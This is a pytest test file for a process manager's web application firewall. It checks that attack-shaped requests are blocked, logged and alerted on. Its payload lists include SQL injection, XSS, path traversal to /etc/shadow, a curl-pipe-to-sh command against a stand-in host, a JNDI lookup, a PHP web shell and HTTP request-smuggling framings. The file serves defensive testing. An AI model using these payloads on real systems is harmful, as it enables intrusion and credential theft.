"""The web application firewall: what looks like an attack is refused or told, and what zona's own clients send is served."""
import json
import os
import signal
import socket
import urllib.parse

import pytest
import requests
from unix_api import Api
from waiting import wait_until

BLOCKED = (403, 'REQUEST_BLOCKED')
NOTHING = (404, 'NOT_FOUND')   # what there is when the firewall lets through what names no process
INJECTION = '/api/v1/processes?select=' + urllib.parse.quote("1' OR 1=1-- ")


@pytest.fixture
def zona(open_zona):
    """One that blocks, and change(name=value, ...), which changes settings of its API while it runs."""
    zona = open_zona(ZONA_API_FIREWALL='block')
    zona.change = lambda **settings: change(zona, **settings)
    return zona


def change(zona, **settings):
    lines = ''.join(f'{key} = {json.dumps(value)}\n' for key, value in settings.items())
    (zona.home / 'zona.toml').write_text(f'[api]\n{lines}')
    return zona.run('config', 'reload', check=False)


def ask(zona, path, method='GET', key=True, **options):
    headers = {**({'X-API-Key': zona.key} if key else {}), **options.pop('headers', {})}
    answer = requests.request(method, zona.url + path, headers=headers, timeout=30, allow_redirects=False, **options)
    return answer.status_code if answer.ok else (answer.status_code, answer.json()['error']['code'])


def finding(zona):
    return next(check for check in zona.run('doctor', '--json', check=False).data['checks'] if check['name'] == 'firewall')


def log_lines(zona, file='zonad.log'):
    return [json.loads(line) for line in (zona.home / 'logs' / file).read_text().splitlines()]


def record(zona):
    """The entries on record, once they can be read."""
    exported = wait_until(lambda: (done := zona.run('audit', 'export', check=False)).returncode == 0 and done)
    return [json.loads(line) for line in exported.stdout.splitlines()]


def query(value):
    return '/api/v1/processes?select=' + urllib.parse.quote(value)


ATTACKS = {
    'sql': [('GET', query("1' OR 1=1-- "), {}), ('GET', query('1 UNION SELECT name, password FROM users'), {}),
            ('POST', '/api/v1/tenants', {'json': {'code': 'acme', 'contact_email': "x'; DROP TABLE users; --"}})],
    'script': [('GET', query('<script>alert(document.cookie)</script>'), {}), ('GET', query('<img src=x onerror=alert(1)>'), {}),
               ('PUT', '/api/v1/tenants/acme/settings/motd', {'json': {'value': '<svg/onload=alert(1)>'}})],
    'file': [('GET', query('../../../../etc/passwd'), {}), ('GET', query('..%2f..%2f..%2fetc%2fshadow'), {}), ('GET', query('/proc/self/environ'), {})],
    'command': [('GET', query('x; cat /etc/passwd'), {}), ('GET', query('$(curl http://192.0.2.1/x | sh)'), {}), ('GET', query('${jndi:ldap://192.0.2.1/a}'), {}),
                ('POST', '/api/v1/operations', {'json': {'action': 'stop', 'select': ['nap; /bin/cat /etc/shadow']}})],
    'scanner': [('GET', '/livez', {'headers': {'User-Agent': 'sqlmap/1.7'}}), ('GET', '/livez', {'headers': {'User-Agent': 'Mozilla/5.00 (Nikto/2.1.6)'}})],
    'inclusion': [('GET', query('http://192.0.2.1/shell.txt?'), {})],
    'code': [('GET', query('<?php system($_GET["c"]); ?>'), {})],
    'protocol': [('GET', '/livez', {'headers': {'Proxy': 'http://192.0.2.1/'}})],
}


# SEC-14
def test_attacks_of_each_kind_are_refused_whoever_sends_them(zona):
    sent = 0
    for kind, requests_of_it in ATTACKS.items():
        for method, path, options in requests_of_it:
            for key in (True, False):
                assert ask(zona, path, method, key, **dict(options)) == BLOCKED, (kind, method, path, options)
                sent += 1
            told = [line for line in log_lines(zona) if line['message'] == 'a request looks like an attack'][-1]
            assert kind in told['kinds'].split(', ') and told['rules'] and told['mode'] == 'block', (kind, path, told)

    metrics = requests.get(zona.url + '/metrics', headers={'X-API-Key': zona.key}, timeout=20).text
    assert f'zona_firewall_requests_total{{outcome="blocked"}} {sent}' in metrics


# SEC-14
def test_what_looks_like_smuggling_comes_to_no_handler(zona):
    host, port = zona.url.removeprefix('http://').split(':')
    head = f'POST /api/v1/operations HTTP/1.1\r\nHost: {host}\r\nX-API-Key: {zona.key}\r\nContent-Type: application/json\r\n'
    for framing, body in (('Content-Length: 4\r\nTransfer-Encoding: chunked\r\n', '0\r\n\r\nGET /livez HTTP/1.1\r\n\r\n'),
                          ('Content-Length: 2\r\nContent-Length: 40\r\n', '{}'), ('Transfer-Encoding: xchunked\r\n', '0\r\n\r\n'),
                          ('Transfer-Encoding : chunked\r\n', '0\r\n\r\n'), ('Content-Length: +2\r\n', '{}')):
        with socket.create_connection((host, int(port)), timeout=20) as client:
            client.sendall((head + framing + '\r\n' + body).encode())
            answers = b''
            while received := client.recv(65536):
                answers += received
        assert answers.count(b'HTTP/1.1 ') == 1 and answers.split()[1] in (b'400', b'501'), (framing, answers)


# SEC-14
def test_every_example_of_the_document_and_every_secret_is_let_through(zona, root):
    document = json.loads((root / 'docs/openapi.json').read_text())
    sent = 0
    for path, item in document['paths'].items():
        for method, operation in item.items():
            parameters = operation.get('parameters', [])
            target = path
            for p in parameters:
                target = target.replace('{%s}' % p['name'], urllib.parse.quote(str(p['example']), safe='')) if p['in'] == 'path' else target
            asked = {p['name']: json.dumps(p['example']) if isinstance(p['example'], bool) else p['example']
                     for p in parameters if p['in'] == 'query' and p['example'] != ''}
            bodies = [{'json' if kind == 'application/json' else 'data': example['value']}
                      for kind, content in operation.get('requestBody', {}).get('content', {}).items() for example in content['examples'].values()]
            for body in bodies or [{}]:
                # Without a key nothing is done, but by what is open; the firewall comes before keys.
                with requests.request(method, zona.url + target, params=asked, timeout=30, stream=True, allow_redirects=False, **body):
                    sent += 1
    assert sent > 140
    assert [line for line in log_lines(zona) if line['message'] == 'a request looks like an attack'] == []

    for password in ("' or 1=1 --", '<script>alert(1)</script>', '; cat /etc/passwd', '../../etc/passwd', '${jndi:ldap://x}'):
        assert ask(zona, '/api/v1/sessions', 'POST', json={'tenant': 'default', 'name': 'anna', 'password': password})[1] != 'REQUEST_BLOCKED', password
    app = {'name': 'shell', 'script': '/bin/sh', 'args': ['-c', "cat /etc/passwd; select * from users where 'a'='a'; exec sleep 1000"]}
    assert ask(zona, '/api/v1/processes', 'POST', json={'apps': [app], 'cwd': '/tmp'}) == 201
    assert Api(zona)('GET', INJECTION)[0] == 404, 'the socket of this host is not inspected'


# SEC-14, SEC-22
def test_an_attack_is_on_record_counted_and_raises_an_alert_without_a_word_of_it(open_zona):
    zona = open_zona(ZONA_API_FIREWALL='block', ZONA_ALERTS_ATTACKS='3')
    for number in range(3):
        assert ask(zona, '/api/v1/sessions', 'POST', json={'tenant': 'default', 'name': "x' or 1=1 --", 'password': 'tulip-orbit-41'}) == BLOCKED

    entries = record(zona)
    refused = [entry for entry in entries if entry.get('details', '').startswith('REQUEST_BLOCKED')]
    assert len(refused) == 3 and refused[0]['category'] == 'security' and refused[0]['resource'] == '/api/v1/sessions'
    raised = [entry for entry in entries if entry.get('action') == 'alert']
    assert [entry['resource'] for entry in raised] == ['attacks'] and raised[0]['details'].startswith('3 requests of one address')
    for log in (zona.home / 'logs').iterdir():
        assert 'tulip-orbit-41' not in log.read_text() and '1=1' not in log.read_text(), log
    told = [line for line in log_lines(zona, 'security.log') if line['message'] == 'a request looks like an attack']
    assert [line['correlation_id'] for line in told] == [entry['correlation'] for entry in refused]
    assert set(told[0]) <= {'time', 'level', 'category', 'message', 'mode', 'kinds', 'rules', 'method', 'route', 'address', 'correlation_id'}


# SEC-14
def test_where_attacks_are_only_detected_they_are_served_and_told(open_zona):
    zona = open_zona(ZONA_API_FIREWALL='detect', ZONA_ALERTS_ATTACKS='1')
    assert ask(zona, query('<script>alert(1)</script>')) == NOTHING

    assert [line['mode'] for line in log_lines(zona) if line['message'] == 'a request looks like an attack'] == ['detect']
    entries = record(zona)
    assert [entry['resource'] for entry in entries if entry.get('action') == 'alert'] == ['attacks']
    assert not any(entry.get('details', '').startswith('REQUEST_BLOCKED') for entry in entries), 'nobody was refused'


# SEC-14
def test_rules_and_modes_change_while_zona_runs_and_broken_ones_change_nothing(open_zona):
    zona = open_zona()
    assert finding(zona)['detail'] == 'off (api.firewall)' and ask(zona, INJECTION) == NOTHING
    own = zona.folder / 'own.conf'
    own.write_text('SecRule ARGS:select "@streq mauve" "id:1,phase:2,deny,log"\n')
    change(zona, firewall='block', firewall_rules=str(own))
    wait_until(lambda: ask(zona, INJECTION) == BLOCKED)
    assert ask(zona, query('mauve')) == BLOCKED and ask(zona, query('nap')) == 200
    assert finding(zona)['detail'].startswith('api.listen: block, others: off; ')

    own.write_text('SecRule ARGS:select "@streq mauve" nonsense\n')
    change(zona, firewall='detect', firewall_rules=str(own))
    wait_until(lambda: 'api.firewall_rules: ' in finding(zona)['detail'])
    assert ask(zona, query('mauve')) == ask(zona, INJECTION) == BLOCKED, 'rules and mode of before'
    own.write_text('SecRuleRemoveById 942100\n')
    change(zona, firewall='block', firewall_rules=str(own))
    wait_until(lambda: ask(zona, query('mauve')) == NOTHING)
    assert ask(zona, INJECTION) == NOTHING and ask(zona, query('<script>alert(1)</script>')) == BLOCKED
    assert finding(zona)['status'] == 'ok'

    change(zona)
    wait_until(lambda: ask(zona, query('<script>alert(1)</script>')) == NOTHING)


# SEC-14
def test_each_listener_has_a_mode_of_its_own(open_zona):
    zona = open_zona(ZONA_API_PMDAEMON_LISTEN='127.0.0.1:0', ZONA_API_PMDAEMON_FIREWALL='block')
    assert ask(zona, INJECTION) == NOTHING
    zona.url = f"http://{zona.ping()['network']['pmdaemon']}"
    assert ask(zona, INJECTION) == BLOCKED and ask(zona, '/api/v1/ping') == 200


# SEC-14
def test_rules_that_cannot_be_read_stop_the_first_start_and_let_nobody_in_later(new_zona, open_zona):
    env = {'ZONA_API_LISTEN': '127.0.0.1:0', 'ZONA_API_FIREWALL': 'block', 'ZONA_API_FIREWALL_CORE_RULES': '/nonexistent/rules'}
    refused = new_zona(env=env).run('start', '/bin/sleep', '--', '1000', check=False)
    assert refused.returncode != 0 and 'api.firewall_core_rules: ' in refused.stderr

    zona = open_zona()
    own = zona.folder / 'own.conf'
    own.write_text('')
    change(zona, firewall='block', firewall_rules=str(own))
    wait_until(lambda: ask(zona, INJECTION) == BLOCKED)
    own.write_text('nonsense\n')
    daemon = zona.daemon_pid()
    os.kill(daemon, signal.SIGKILL)
    wait_until(lambda: zona.daemon_pid() != daemon)
    zona.url = f"http://{zona.ping()['network']['address']}"
    assert ask(zona, '/livez') == (503, 'UNAVAILABLE')
    assert zona.run('list').returncode == 0 and 'own.conf' in finding(zona)['detail']
